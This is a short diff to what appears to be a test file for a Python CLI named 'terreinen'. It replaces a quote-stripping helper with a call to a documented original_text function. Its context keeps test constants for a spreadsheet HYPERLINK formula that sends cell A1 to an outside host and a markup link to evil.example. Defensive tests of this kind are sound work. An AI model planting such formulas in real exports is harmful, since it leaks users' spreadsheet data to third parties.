@@ -14,6 +14,7 @@ from rich.console import Console
 
 from terreinen import validate
 from terreinen.cli import screen as _screen
+from terreinen.io.write import original_text
 
 FORMULA = '=HYPERLINK("http://x/?"&A1,"Klik")'
 LINK = "[link=https://evil.example]Broeklanden[/link]"
@@ -53,7 +54,8 @@ def cells(path):
 
 
 def unprefix(value):
-    return value[1:] if isinstance(value, str) and value.startswith("'") else value
+    """The documented CSV rule undone (terreinen.io.write.original_text)."""
+    return original_text(value) if isinstance(value, str) else value
 
 
 # --- 2. spreadsheet formulas -------------------------------------------------------------
